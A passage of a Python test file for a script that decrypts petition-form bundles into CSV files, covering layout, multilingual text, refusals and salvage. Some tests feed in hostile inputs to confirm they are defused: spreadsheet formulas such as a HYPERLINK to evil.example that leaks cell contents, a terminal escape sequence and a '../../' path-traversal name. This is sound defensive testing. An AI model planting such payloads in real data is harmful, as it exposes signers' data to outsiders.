"""scripts/decrypt.py: open bundles on the laptop into spreadsheet-safe CSV files and a summary."""

from __future__ import annotations

import base64
import csv
import dataclasses
import hashlib
import io
import json
import os
import re
import stat
import subprocess
import sys
import textwrap
import tracemalloc
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
from pages import CAMPAIGNS, ROOT, decrypt_args, public

from papillon import bundle, campaigns, envelope, keys, replies

DEFINITIONS = {slug: c.source for slug, c in campaigns.load_dir(CAMPAIGNS).items()}
# What the server puts in a bundle's header: the campaigns' definitions, and that of the follow-ups to replies.
HEADER_CAMPAIGNS = {**DEFINITIONS, replies.CAMPAIGN: replies.FOLLOW_UP_SOURCE}
PETITION_LABELS = [f.label for f in campaigns.from_dict(DEFINITIONS["petition"], "d").forms["sign"].fields]
CHINESE, THAI, KOREAN = (
    "\u738b\u5c0f\u660e",
    "\u0e2a\u0e21\u0e0a\u0e32\u0e22 \u0e43\u0e08\u0e14\u0e35",
    "\uae40\ubbfc\uc900",
)


@pytest.fixture
def decrypt(script):
    return script("decrypt")


def record(n: int, private: X25519PrivateKey, campaign: str, form: str, answers: dict, **kw) -> bundle.Record:
    place = kw.get("sealed_place", (campaign, form))
    data = kw.get("data") or envelope.plaintext(answers, kw.get("version", 1), kw.get("locale", "en"), kw.get("reply"))
    return bundle.Record(
        id=f"{n:032x}",
        campaign=campaign,
        form=form,
        received_on=kw.get("received_on", "2026-03-04"),
        sealed_by=kw.get("sealed_by", "server"),
        envelope=envelope.seal(data, [public(private)], *place).to_json(),
    )


def write_bundle(
    path: Path, records: list[bundle.Record], private: X25519PrivateKey, described: list[keys.PublicKey] | None = None
) -> Path:
    """A bundle of ``records`` whose header lists ``private``'s key; ``described``: instead, these keys, with their
    names and fingerprints, as export writes them."""
    used = {r.campaign for r in records}
    bundle.write(
        path,
        records,
        created_on="2026-03-05",
        key_ids=[k.key_id for k in described] if described else [public(private).key_id],
        keys=[bundle.Key(k.key_id, k.name, k.fingerprint) for k in described] if described else None,
        campaigns={k: v for k, v in HEADER_CAMPAIGNS.items() if k in used},
    )
    return path


def signer(name: str, **more) -> dict:
    return {"signing_as": "individual", "name": name, **more}


def run(decrypt, bundles, key: Path, out: Path, passphrase_file: Path | None = None) -> int:
    passphrase_file = passphrase_file or key.parent / "passphrase.txt"
    args = [*map(str, bundles), "--key", str(key), "--out", str(out), "--passphrase-file", str(passphrase_file)]
    return decrypt.main(args)


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


@pytest.fixture
def sample_bundle(tmp_path, organizer_key) -> Path:
    records = [
        record(1, organizer_key, "petition", "sign", signer(CHINESE, areas_of_focus=["rights", "other"])),
        record(2, organizer_key, "petition", "sign", signer(THAI), sealed_by="browser"),
        record(3, organizer_key, "petition", "testimony", {"what_happened": KOREAN, "may_share": True}),
    ]
    return write_bundle(tmp_path / "export.papillon", records, organizer_key)


def test_decrypt_writes_one_csv_per_campaign_and_form(decrypt, sample_bundle, organizer_key_file, tmp_path, capsys):
    out = tmp_path / "out"
    assert run(decrypt, [sample_bundle], organizer_key_file, out) == 0
    assert sorted(p.name for p in out.iterdir()) == [
        "petition-sign.csv",
        "petition-testimony.csv",
        "report.html",
        "summary.txt",
    ]
    assert "Opened 3 record(s); 0 could not be opened." in capsys.readouterr().out


def test_decrypt_csv_starts_with_a_utf8_bom(decrypt, sample_bundle, organizer_key_file, tmp_path):
    out = tmp_path / "out"
    run(decrypt, [sample_bundle], organizer_key_file, out)
    assert (out / "petition-sign.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_decrypt_csv_has_a_column_per_field_in_form_order_then_date_and_sealing(
    decrypt, sample_bundle, organizer_key_file, tmp_path
):
    out = tmp_path / "out"
    run(decrypt, [sample_bundle], organizer_key_file, out)
    header = read_csv(out / "petition-sign.csv")[0]
    n = len(PETITION_LABELS)
    assert header[:n] == PETITION_LABELS
    assert header[n:] == [
        "Language",
        "Form version",
        "Date received",
        "Sealed by",
        "Record id",
        "Reply handle",
        "Check",
        "Possible duplicate",
    ]


def test_decrypt_keeps_chinese_thai_and_korean_text(decrypt, sample_bundle, organizer_key_file, tmp_path):
    out = tmp_path / "out"
    run(decrypt, [sample_bundle], organizer_key_file, out)
    rows = read_csv(out / "petition-sign.csv")[1:]
    names = {row[PETITION_LABELS.index("Your name")] for row in rows}
    assert names == {CHINESE, THAI}
    testimony = read_csv(out / "petition-testimony.csv")[1]
    assert testimony[0] == KOREAN


def test_decrypt_rows_carry_date_sealing_path_and_id(decrypt, sample_bundle, organizer_key_file, tmp_path):
    out = tmp_path / "out"
    run(decrypt, [sample_bundle], organizer_key_file, out)
    rows = read_csv(out / "petition-sign.csv")[1:]
    tails = sorted(row[len(PETITION_LABELS) :] for row in rows)
    assert tails == [
        ["en", "1", "2026-03-04", "browser", f"{2:032x}", "", "", ""],
        ["en", "1", "2026-03-04", "server", f"{1:032x}", "", "", ""],
    ]


def test_a_korean_and_an_english_answer_with_the_same_choices_open_to_the_same_cells(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    """Choices are sealed as ids, so the page's language changes only the Language column."""
    same = {"signing_as": "organization", "areas_of_focus": ["rights", "legal"], "province": "qc"}
    path = write_bundle(
        tmp_path / "b.papillon",
        [
            record(1, organizer_key, "petition", "sign", signer("Ada", **same), locale="en"),
            record(2, organizer_key, "petition", "sign", signer("Ada", **same), locale="ko"),
        ],
        organizer_key,
    )
    out = tmp_path / "out"
    assert run(decrypt, [path], organizer_key_file, out) == 0
    header, *rows = read_csv(out / "petition-sign.csv")
    by_language = {row[header.index("Language")]: row for row in rows}
    assert set(by_language) == {"en", "ko"}
    answers = [row[: len(PETITION_LABELS)] for row in by_language.values()]
    assert answers[0] == answers[1]
    assert answers[0][PETITION_LABELS.index("I am signing as")] == "An organization"
    assert answers[0][PETITION_LABELS.index("Areas of focus")] == "Workers' rights; Legal services"
    assert answers[0][PETITION_LABELS.index("Province or territory")] == "Quebec"
    assert all(row[header.index("Check")] == "" for row in rows)


def version_1_record(n: int, private: X25519PrivateKey, campaign: str, form: str, answers: dict) -> bundle.Record:
    """A record as Papillon sealed it before choice ids: each choice as its English label."""
    data = envelope.plaintext(answers, 1, "en")
    sealed = envelope.SUITE.encrypt(data, private.public_key(), info=envelope.info(campaign, form, version=1))
    return bundle.Record(
        id=f"{n:032x}",
        campaign=campaign,
        form=form,
        received_on="2026-03-04",
        sealed_by="server",
        envelope=envelope.Envelope({public(private).key_id: sealed}, version=1).to_json(),
    )


def test_a_version_1_record_with_labels_opens_to_the_same_cells_as_a_new_one(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    path = write_bundle(
        tmp_path / "b.papillon",
        [
            version_1_record(
                1,
                organizer_key,
                "petition",
                "sign",
                signer("Ada", signing_as="An organization", areas_of_focus=["Workers' rights", "Other"]),
            ),
            record(
                2,
                organizer_key,
                "petition",
                "sign",
                signer("Ada", signing_as="organization", areas_of_focus=["rights", "other"]),
            ),
        ],
        organizer_key,
    )
    out = tmp_path / "out"
    assert run(decrypt, [path], organizer_key_file, out) == 0
    header, *rows = read_csv(out / "petition-sign.csv")
    assert len(rows) == 2
    assert rows[0][: len(PETITION_LABELS)] == rows[1][: len(PETITION_LABELS)]
    assert rows[0][PETITION_LABELS.index("Areas of focus")] == "Workers' rights; Other"
    assert all(row[header.index("Check")] == "" for row in rows)


def test_decrypt_joins_lists_and_writes_consent_as_yes_or_no(decrypt, sample_bundle, organizer_key_file, tmp_path):
    out = tmp_path / "out"
    run(decrypt, [sample_bundle], organizer_key_file, out)
    rows = read_csv(out / "petition-sign.csv")[1:]
    focus = PETITION_LABELS.index("Areas of focus")
    assert sorted(row[focus] for row in rows) == ["", "Workers' rights; Other"]
    testimony_header, testimony = read_csv(out / "petition-testimony.csv")
    assert (
        testimony[testimony_header.index(next(h for h in testimony_header if h.startswith("You may share")))] == "yes"
    )


@pytest.mark.parametrize("dangerous", ['=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)"])
def test_decrypt_defuses_cells_that_a_spreadsheet_would_run(
    decrypt, organizer_key, organizer_key_file, tmp_path, dangerous
):
    path = write_bundle(
        tmp_path / "b.papillon",
        [record(1, organizer_key, "petition", "sign", signer(dangerous))],
        organizer_key,
    )
    out = tmp_path / "out"
    run(decrypt, [path], organizer_key_file, out)
    row = read_csv(out / "petition-sign.csv")[1]
    assert row[PETITION_LABELS.index("Your name")] == "'" + dangerous


def test_decrypt_summary_counts(decrypt, sample_bundle, organizer_key, organizer_key_file, tmp_path):
    out = tmp_path / "out"
    run(decrypt, [sample_bundle], organizer_key_file, out)
    summary = (out / "summary.txt").read_text(encoding="utf-8")
    assert f"({public(organizer_key).fingerprint})" in summary
    assert "Records opened: 3\n" in summary
    assert "sealed in the browser: 1, sealed on arrival at the server: 2" in summary
    assert "Records that could not be opened: 0" in summary
    assert "(see the Check column): 0" in summary
    assert "petition-sign.csv: 2 row(s)" in summary
    assert "petition-testimony.csv: 1 row(s)" in summary
    for text in (CHINESE, THAI, KOREAN):
        assert text not in summary


def test_decrypt_outputs_are_readable_by_their_owner_only(decrypt, sample_bundle, organizer_key_file, tmp_path):
    out = tmp_path / "out"
    run(decrypt, [sample_bundle], organizer_key_file, out)
    for path in out.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name


def test_decrypt_flags_a_record_that_does_not_fit_its_form_instead_of_dropping_it(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    misfit = signer("x" * 200, signing_as="A robot", shoe_size="42")
    path = write_bundle(
        tmp_path / "b.papillon",
        [
            record(1, organizer_key, "petition", "sign", signer("Ada")),
            record(2, organizer_key, "petition", "sign", misfit, version=7),
        ],
        organizer_key,
    )
    out = tmp_path / "out"
    assert run(decrypt, [path], organizer_key_file, out) == 0
    header, *rows = read_csv(out / "petition-sign.csv")
    assert len(rows) == 2
    by_id = {row[header.index("Record id")]: row for row in rows}
    check = by_id[f"{2:032x}"][header.index("Check")]
    assert "name: Please keep this under 120 characters." in check
    assert "signing_as: Please choose from the list." in check
    assert "_form: Unknown fields: shoe_size" in check
    assert "made under form version 7" in check
    assert by_id[f"{2:032x}"][header.index("Your name")] == "x" * 200
    assert by_id[f"{1:032x}"][header.index("Check")] == ""
    assert "(see the Check column): 1" in (out / "summary.txt").read_text()


def test_decrypt_keeps_the_value_of_an_answer_the_form_does_not_know(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    path = write_bundle(
        tmp_path / "b.papillon",
        [record(1, organizer_key, "petition", "sign", signer("Ada", renamed_field="Zqv kept value"))],
        organizer_key,
    )
    out = tmp_path / "out"
    assert run(decrypt, [path], organizer_key_file, out) == 0
    header, row = read_csv(out / "petition-sign.csv")
    assert "Zqv kept value" in row[header.index("Check")]
    assert "renamed_field" in row[header.index("Check")]


def test_decrypt_without_a_form_definition_keeps_every_answer(decrypt, organizer_key, organizer_key_file, tmp_path):
    records = [
        record(1, organizer_key, "retired", "sign", {"name": "Ada"}),
        record(2, organizer_key, "retired", "sign", {"name": "Bea", "city": "Zqv Montr\u00e9al"}),
    ]
    path = tmp_path / "b.papillon"
    bundle.write(path, records, created_on="2026-03-05", key_ids=[public(organizer_key).key_id], campaigns={})
    out = tmp_path / "out"
    assert run(decrypt, [path], organizer_key_file, out) == 0
    header, *rows = read_csv(out / "retired-sign.csv")
    assert len(rows) == 2
    assert all("no form definition in the bundle" in row[header.index("Check")] for row in rows)
    assert any("Zqv Montr\u00e9al" in cell for row in rows for cell in row)


def test_decrypt_counts_records_it_cannot_open_and_exits_non_zero(
    decrypt, organizer_key, organizer_key_file, tmp_path, capsys
):
    stranger = X25519PrivateKey.generate()
    path = write_bundle(
        tmp_path / "b.papillon",
        [
            record(1, organizer_key, "petition", "sign", signer("Ada")),
            record(2, stranger, "petition", "sign", signer("Bea")),
            record(3, organizer_key, "petition", "sign", signer("Cy"), sealed_place=("letter", "sign")),
        ],
        organizer_key,
    )
    out = tmp_path / "out"
    assert run(decrypt, [path], organizer_key_file, out) == 1
    assert len(read_csv(out / "petition-sign.csv")) == 2
    summary = (out / "summary.txt").read_text()
    assert "Records that could not be opened: 2" in summary
    assert f"{2:032x} (petition/sign): the record is not sealed to key" in summary
    assert f"{3:032x} (petition/sign): the record does not open" in summary
    assert "2 could not be opened" in capsys.readouterr().out


def test_decrypt_reads_several_bundles_and_keeps_each_record_once(decrypt, organizer_key, organizer_key_file, tmp_path):
    first = write_bundle(
        tmp_path / "1.papillon", [record(1, organizer_key, "petition", "sign", signer("Ada"))], organizer_key
    )
    second = write_bundle(
        tmp_path / "2.papillon",
        [
            record(1, organizer_key, "petition", "sign", signer("Ada")),
            record(2, organizer_key, "petition", "sign", signer("Bea")),
        ],
        organizer_key,
    )
    out = tmp_path / "out"
    assert run(decrypt, [first, second], organizer_key_file, out) == 0
    assert len(read_csv(out / "petition-sign.csv")) == 3


# --- refusals: one clear line, non-zero exit, nothing written -------------------------------


def assert_refused(code: int, capsys, out: Path, expected: str) -> None:
    err = capsys.readouterr().err
    assert code != 0
    assert "Traceback" not in err
    messages = [line for line in err.splitlines() if line.startswith("decrypt: ")]
    assert len(messages) == 1, err
    assert expected in messages[0]
    if out.exists():
        assert not list(out.glob("*.csv"))
    assert not (out / "summary.txt").exists()


def test_decrypt_refuses_a_wrong_passphrase(decrypt, sample_bundle, organizer_key_file, tmp_path, capsys):
    wrong = tmp_path / "wrong.txt"
    wrong.write_text("not the passphrase at all\n")
    out = tmp_path / "out"
    code = run(decrypt, [sample_bundle], organizer_key_file, out, passphrase_file=wrong)
    assert_refused(code, capsys, out, "wrong passphrase")


def test_decrypt_refuses_a_damaged_bundle(decrypt, sample_bundle, organizer_key_file, tmp_path, capsys):
    data = bytearray(sample_bundle.read_bytes())
    data[len(data) // 2] ^= 0x20
    sample_bundle.write_bytes(bytes(data))
    out = tmp_path / "out"
    code = run(decrypt, [sample_bundle], organizer_key_file, out)
    assert_refused(code, capsys, out, "checksum mismatch")


def test_decrypt_refuses_a_truncated_bundle(decrypt, sample_bundle, organizer_key_file, tmp_path, capsys):
    sample_bundle.write_bytes(sample_bundle.read_bytes()[:-40])
    out = tmp_path / "out"
    code = run(decrypt, [sample_bundle], organizer_key_file, out)
    assert_refused(code, capsys, out, "truncated")


def test_decrypt_refuses_a_missing_bundle(decrypt, organizer_key_file, tmp_path, capsys):
    out = tmp_path / "out"
    code = run(decrypt, [tmp_path / "nowhere.papillon"], organizer_key_file, out)
    assert_refused(code, capsys, out, "nowhere.papillon")


def test_decrypt_refuses_when_one_of_several_bundles_is_damaged(
    decrypt, sample_bundle, organizer_key_file, tmp_path, capsys
):
    damaged = tmp_path / "damaged.papillon"
    damaged.write_bytes(sample_bundle.read_bytes()[:100])
    out = tmp_path / "out"
    code = run(decrypt, [sample_bundle, damaged], organizer_key_file, out)
    assert_refused(code, capsys, out, "damaged.papillon")


def test_decrypt_refuses_a_missing_key_file(decrypt, sample_bundle, organizer_key_file, tmp_path, capsys):
    out = tmp_path / "out"
    passphrase = organizer_key_file.parent / "passphrase.txt"
    code = run(decrypt, [sample_bundle], tmp_path / "missing.key", out, passphrase_file=passphrase)
    assert_refused(code, capsys, out, "cannot read the key file")


def test_decrypt_refuses_a_public_key_given_as_the_private_key(
    decrypt, sample_bundle, organizer_key, organizer_key_file, tmp_path, capsys
):
    pub = tmp_path / "organizer.pub"
    pub.write_text(keys.dumps_public("organizer", organizer_key.public_key()))
    out = tmp_path / "out"
    code = run(decrypt, [sample_bundle], pub, out, passphrase_file=organizer_key_file.parent / "passphrase.txt")
    assert_refused(code, capsys, out, "not a Papillon private key file")


def test_decrypt_refuses_to_overwrite_an_existing_output(decrypt, sample_bundle, organizer_key_file, tmp_path, capsys):
    out = tmp_path / "out"
    assert run(decrypt, [sample_bundle], organizer_key_file, out) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    capsys.readouterr()
    code = run(decrypt, [sample_bundle], organizer_key_file, out)
    err = capsys.readouterr().err
    assert code != 0
    assert "already exists" in err
    assert "Traceback" not in err
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_decrypt_refuses_when_only_the_summary_exists(decrypt, sample_bundle, organizer_key_file, tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    (out / "summary.txt").write_text("an earlier summary")
    assert run(decrypt, [sample_bundle], organizer_key_file, out) != 0
    assert "already exists" in capsys.readouterr().err
    assert sorted(p.name for p in out.iterdir()) == ["summary.txt"]


# --- the laptop needs no web stack ---------------------------------------------------------

NO_WEB_STACK = textwrap.dedent(
    """
    import importlib.abc, importlib.util, sys

    BLOCKED = {"flask", "flask_wtf", "flask_limiter", "wtforms", "werkzeug", "sqlalchemy", "app"}

    class Block(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path=None, target=None):
            if name.split(".")[0] in BLOCKED:
                raise ImportError("blocked on the laptop: " + name)
            return None

    sys.meta_path.insert(0, Block())
    for name in BLOCKED:
        try:
            __import__(name)
        except ImportError:
            pass
        else:
            sys.exit("the import hook failed to block " + name)

    script, *args = sys.argv[1:]
    spec = importlib.util.spec_from_file_location("decrypt", script)
    module = importlib.util.module_from_spec(spec)
    sys.modules["decrypt"] = module
    spec.loader.exec_module(module)
    code = module.main(args)
    loaded = sorted(m for m in sys.modules if m.split(".")[0] in BLOCKED)
    if loaded:
        sys.exit("web modules were loaded: " + ", ".join(loaded))
    sys.exit(code)
    """
)


def test_decrypt_runs_without_flask_or_sqlalchemy(sample_bundle, organizer_key_file, tmp_path):
    out = tmp_path / "out"
    args = decrypt_args(sample_bundle, organizer_key_file, out)
    result = subprocess.run(
        [sys.executable, "-c", NO_WEB_STACK, str(ROOT / "scripts" / "decrypt.py"), *args],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert (out / "petition-sign.csv").exists()
    rows = read_csv(out / "petition-testimony.csv")
    assert rows[1][0] == KOREAN


# --- a bundle rewritten by a hostile server ------------------------------------------------------------------


def hostile_definitions() -> dict:
    """The test petition's definition with formulas and a terminal escape sequence in its labels."""
    definition = json.loads(json.dumps(DEFINITIONS["petition"]))
    fields = definition["forms"][0]["fields"]
    fields[0]["label"] = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    fields[1]["label"] = "\x1b]0;owned\x07Name \uff1dcmd"
    return {"petition": definition}


def all_cells(path: Path) -> list[str]:
    return [c for row in read_csv(path) for c in row]


def test_every_cell_that_could_run_as_a_formula_is_defused_header_included(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    rec = record(1, organizer_key, "petition", "sign", signer(" =1+1", organization="\t@SUM(A1)"))
    path = tmp_path / "hostile.bundle"
    bundle.write(path, [rec], created_on="2026-03-05", key_ids=[], campaigns=hostile_definitions())
    out = tmp_path / "out"
    run(decrypt, [path], organizer_key_file, out)
    cells = all_cells(out / "petition-sign.csv")
    starts = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    assert [c for c in cells if c.lstrip(" \n").startswith(starts)] == []
    assert '\'=HYPERLINK("http://evil.example/?"&A2,"Click")' in cells
    assert not any("\x1b" in c or "\x07" in c for c in cells)
    assert "\x1b" not in (out / "summary.txt").read_text()


def test_a_bundle_that_names_a_place_outside_the_output_folder_is_refused(
    decrypt, organizer_key, organizer_key_file, tmp_path, capsys
):
    rec = record(1, organizer_key, "petition", "sign", signer("Ada"))
    path = tmp_path / "b.bundle"
    write_bundle(path, [dataclasses.replace(rec, campaign="../../escaped")], organizer_key)
    out = tmp_path / "deep" / "out"
    code = run(decrypt, [path], organizer_key_file, out)
    assert_refused(code, capsys, out, "campaign")
    assert not list(tmp_path.rglob("*escaped*"))


def test_a_header_of_the_wrong_types_is_refused_in_one_line_with_no_traceback(
    decrypt, organizer_key_file, tmp_path, capsys
):
    body = (
        json.dumps(
            {
                "format": "papillon-bundle",
                "version": 1,
                "created_on": "2026-03-05",
                "count": 0,
                "key_ids": 5,
                "campaigns": [],
            }
        ).encode()
        + b"\n"
    )
    path = tmp_path / "b.bundle"
    path.write_bytes(body + json.dumps({"sha256": hashlib.sha256(body).hexdigest()}).encode() + b"\n")
    out = tmp_path / "out"
    assert_refused(run(decrypt, [path], organizer_key_file, out), capsys, out, "key_ids")


def test_a_key_that_opens_none_of_the_records_is_refused_and_nothing_written(
    decrypt, organizer_key_file, tmp_path, capsys
):
    stranger = X25519PrivateKey.generate()
    path = write_bundle(tmp_path / "b.bundle", [record(1, stranger, "petition", "sign", signer("Ada"))], stranger)
    out = tmp_path / "out"
    code = run(decrypt, [path], organizer_key_file, out)
    assert_refused(code, capsys, out, "opens none of the 1 record(s)")
    assert not out.exists() or list(out.iterdir()) == []


def test_the_refusal_names_the_keys_the_records_were_sealed_to(decrypt, organizer_key_file, tmp_path, capsys):
    stranger = X25519PrivateKey.generate()
    path = write_bundle(tmp_path / "b.bundle", [record(1, stranger, "petition", "sign", signer("Ada"))], stranger)
    run(decrypt, [path], organizer_key_file, tmp_path / "out")
    assert f"which are sealed to {public(stranger).key_id};" in capsys.readouterr().err


def test_the_refusal_names_the_keys_by_fingerprint_and_name_where_the_bundle_describes_them(
    decrypt, organizer_key, organizer_key_file, tmp_path, capsys
):
    old = X25519PrivateKey.generate()
    described = [public(old, "butterfly-2025")]
    path = write_bundle(tmp_path / "b.bundle", [record(1, old, "petition", "sign", signer("Ada"))], old, described)
    out = tmp_path / "out"
    code = run(decrypt, [path], organizer_key_file, out)
    assert_refused(code, capsys, out, f"which are sealed to {public(old).fingerprint} (butterfly-2025);")


def test_an_empty_bundle_still_opens_to_an_empty_summary(decrypt, organizer_key, organizer_key_file, tmp_path):
    path = write_bundle(tmp_path / "b.bundle", [], organizer_key)
    assert run(decrypt, [path], organizer_key_file, tmp_path / "out") == 0
    assert "Records opened: 0" in (tmp_path / "out" / "summary.txt").read_text()


# --- streaming, salvage, several processes ------------------------------------------------------------------------


def run_with(decrypt, bundles, key: Path, out: Path, *extra: str) -> int:
    return decrypt.main([*decrypt_args(bundles[0], key, out), *map(str, bundles[1:]), *extra])


def many(private: X25519PrivateKey, n: int, start: int = 1) -> list[bundle.Record]:
    return [record(i, private, "petition", "sign", signer(f"Signer {i}")) for i in range(start, start + n)]


def test_salvage_opens_the_intact_records_of_a_damaged_bundle_and_names_the_damage(
    decrypt, organizer_key, organizer_key_file, tmp_path, capsys
):
    path = write_bundle(tmp_path / "b.papillon", many(organizer_key, 5), organizer_key)
    lines = path.read_bytes().split(b"\n")
    lines[3] = lines[3][:40]  # line 4, the third record, cut short: no longer JSON
    path.write_bytes(b"\n".join(lines))
    out = tmp_path / "out"
    assert run_with(decrypt, [path], organizer_key_file, out) == 2
    assert not out.exists()
    assert "--salvage" in capsys.readouterr().err

    assert run_with(decrypt, [path], organizer_key_file, out, "--salvage") == 1
    header, *rows = read_csv(out / "petition-sign.csv")
    assert sorted(row[header.index("Your name")] for row in rows) == ["Signer 1", "Signer 2", "Signer 4", "Signer 5"]
    summary = (out / "summary.txt").read_text()
    assert "checksum mismatch" in summary
    assert "line 4: not valid JSON" in summary
    assert "the header counts 5 records, found 5" not in summary


def test_salvage_opens_what_came_before_the_cut_of_a_truncated_bundle(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    path = write_bundle(tmp_path / "b.papillon", many(organizer_key, 4), organizer_key)
    data = path.read_bytes()
    path.write_bytes(data[: data.index(b'"id":"' + f"{3:032x}".encode())])  # cut inside the third record
    out = tmp_path / "out"
    assert run_with(decrypt, [path], organizer_key_file, out, "--salvage") == 1
    header, *rows = read_csv(out / "petition-sign.csv")
    assert [row[header.index("Your name")] for row in rows] == ["Signer 1", "Signer 2"]
    summary = (out / "summary.txt").read_text()
    assert "truncated" in summary
    assert "line 4: not valid JSON" in summary


def test_a_record_altered_inside_a_salvaged_bundle_is_listed_not_opened(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    records = many(organizer_key, 3)
    env = json.loads(records[1].envelope)
    sealed = bytearray(base64.b64decode(env["recipients"][0]["sealed"]))
    sealed[-1] ^= 1
    env["recipients"][0]["sealed"] = base64.b64encode(bytes(sealed)).decode()
    records[1] = dataclasses.replace(records[1], envelope=json.dumps(env))
    path = write_bundle(tmp_path / "b.papillon", records, organizer_key)
    out = tmp_path / "out"
    assert run_with(decrypt, [path], organizer_key_file, out) == 1
    assert len(read_csv(out / "petition-sign.csv")) == 3
    assert f"{2:032x} (petition/sign): the record does not open" in (out / "summary.txt").read_text()


def test_several_processes_write_the_same_spreadsheet_in_the_same_order_as_one(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    path = write_bundle(tmp_path / "b.papillon", many(organizer_key, 300), organizer_key)
    outputs = {}
    for jobs in ("1", "3"):
        out = tmp_path / f"out-{jobs}"
        assert run_with(decrypt, [path], organizer_key_file, out, "--jobs", jobs) == 0
        outputs[jobs] = (out / "petition-sign.csv").read_bytes()
    assert outputs["1"] == outputs["3"]
    assert outputs["1"].count(b"\n") == 301


def test_memory_does_not_grow_with_the_number_of_records(decrypt, organizer_key, organizer_key_file, tmp_path):
    """Records are read, opened and written one batch at a time: ten times the records, the same peak."""
    peaks = {}
    for n in (200, 2000):
        path = write_bundle(tmp_path / f"b{n}.papillon", many(organizer_key, n), organizer_key)
        tracemalloc.start()
        try:
            assert run_with(decrypt, [path], organizer_key_file, tmp_path / f"out{n}", "--jobs", "1") == 0
            peaks[n] = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    # Holding 1,800 more records (about 1.5 KB of envelope each, more once opened) would add several MB.
    assert peaks[2000] - peaks[200] < 512 * 1024, peaks


def test_likely_duplicate_signatures_are_flagged_and_kept(decrypt, organizer_key, organizer_key_file, tmp_path):
    records = [
        record(1, organizer_key, "petition", "sign", signer("Ada", email="ada@example.org")),
        record(2, organizer_key, "petition", "sign", signer("Ada L.", email=" ADA@example.org ")),
        record(3, organizer_key, "petition", "sign", signer("Bea", organization="Butterfly")),
        record(4, organizer_key, "petition", "sign", signer("bea", organization="butterfly")),
        record(5, organizer_key, "petition", "sign", signer("Bea", organization="Another group")),
    ]
    path = write_bundle(tmp_path / "b.papillon", records, organizer_key)
    out = tmp_path / "out"
    assert run_with(decrypt, [path], organizer_key_file, out) == 0
    header, *rows = read_csv(out / "petition-sign.csv")
    flags = {row[header.index("Record id")]: row[header.index("Possible duplicate")] for row in rows}
    assert len(rows) == 5
    assert flags == {
        f"{1:032x}": "",
        f"{2:032x}": f"same email as {1:032x}",
        f"{3:032x}": "",
        f"{4:032x}": f"same name and organization as {3:032x}",
        f"{5:032x}": "",
    }
    assert "ada@example.org" not in (out / "summary.txt").read_text()


def test_jsonl_holds_each_record_with_choice_ids_language_and_version(
    decrypt, organizer_key, organizer_key_file, tmp_path
):
    answers = signer("Ada", areas_of_focus=["rights"], province="qc")
    path = write_bundle(
        tmp_path / "b.papillon", [record(1, organizer_key, "petition", "sign", answers, locale="ko")], organizer_key
    )
    out = tmp_path / "out"
    assert run_with(decrypt, [path], organizer_key_file, out, "--jsonl") == 0
    [line] = (out / "petition-sign.jsonl").read_text(encoding="utf-8").splitlines()
    doc = json.loads(line)
    assert doc["answers"] == answers
    assert (doc["record_id"], doc["locale"], doc["form_version"], doc["check"]) == (f"{1:032x}", "ko", 1, [])
    assert stat.S_IMODE((out / "petition-sign.jsonl").stat().st_mode) == 0o600


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_the_progress_bar_shows_on_a_terminal_only(decrypt):
    terminal, pipe = Terminal(), io.StringIO()
    for stream in (terminal, pipe):
        progress = decrypt.Progress(4, stream)
        for n in range(1, 5):
            progress.advance(1, {"opened": n})
        progress.finish()
    assert "[" + "#" * 30 + "] 4 of 4 records read: 4 opened, 0 could not be opened" in terminal.getvalue()
    assert pipe.getvalue() == ""


def test_the_progress_bar_counts_what_was_read_apart_from_what_opened(
    decrypt, organizer_key, organizer_key_file, tmp_path, capsys, monkeypatch
):
    """14 records read, 6 of them opened: the bar never calls the 8 others opened, and the last line agrees."""
    stranger = X25519PrivateKey.generate()
    records = [*many(organizer_key, 6), *[record(n, stranger, "petition", "sign", {}) for n in range(7, 15)]]
    path = write_bundle(tmp_path / "b.papillon", records, organizer_key)
    terminal = Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    assert run_with(decrypt, [path], organizer_key_file, tmp_path / "out", "--jobs", "1") == 1
    shown = terminal.getvalue().split("\r")
    assert shown[-1].startswith("[" + "#" * 30 + "] 14 of 14 records read: 6 opened, 8 could not be opened\n")
    assert not any("14 opened" in line or "of 14 records opened" in line for line in shown)
    assert capsys.readouterr().out.splitlines()[-1] == "Opened 6 record(s); 8 could not be opened."


def test_records_in_two_bundles_are_counted_once_as_they_are_written_once(
    decrypt, organizer_key, organizer_key_file, tmp_path, capsys, monkeypatch
):
    first = write_bundle(tmp_path / "1.papillon", many(organizer_key, 2), organizer_key)
    again = write_bundle(tmp_path / "2.papillon", many(organizer_key, 3), organizer_key)
    terminal = Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    assert decrypt.main([str(first), *decrypt_args(again, organizer_key_file, tmp_path / "out"), "--jobs", "1"]) == 0
    last = terminal.getvalue().split("\r")[-1]
    assert "5 of 5 records read: 3 opened, 0 could not be opened, 2 already read from another bundle" in last
    assert capsys.readouterr().out.splitlines()[-1] == (
        "Opened 3 record(s); 0 could not be opened. 2 already read from another bundle (each is written once)."
    )


def test_an_existing_output_is_refused_before_the_passphrase_is_asked(
    decrypt, sample_bundle, organizer_key_file, tmp_path, capsys
):
    out = tmp_path / "out"
